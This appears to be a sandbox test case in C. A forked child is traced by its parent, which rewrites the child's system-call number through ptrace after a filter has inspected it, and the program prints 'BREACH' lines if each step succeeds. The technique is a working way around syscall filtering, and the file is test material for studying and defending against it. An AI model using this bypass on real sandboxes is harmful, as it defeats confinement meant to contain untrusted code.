// attack: traces its own child to change a call's number after the filter has looked
// outcome: ok
// violation: ptrace
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    int status;
    const int child = fork();
    if (child == 0) {
        if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) _exit(0);
        raise(SIGSTOP);
        getppid();
        _exit(0);
    }
    waitpid(child, &status, WUNTRACED);
    if (WIFSTOPPED(status)) {
        dprintf(1, "BREACH traces its child\n");
        ptrace(PTRACE_SYSCALL, child, 0, 0);
        waitpid(child, &status, 0);
        if (ptrace(PTRACE_POKEUSER, child, offsetof(struct user, regs.orig_rax), 41) == 0)
            dprintf(1, "BREACH changed the number of a call\n");
        kill(child, SIGKILL);
    }
    dprintf(1, "contained\n");
    return 0;
}
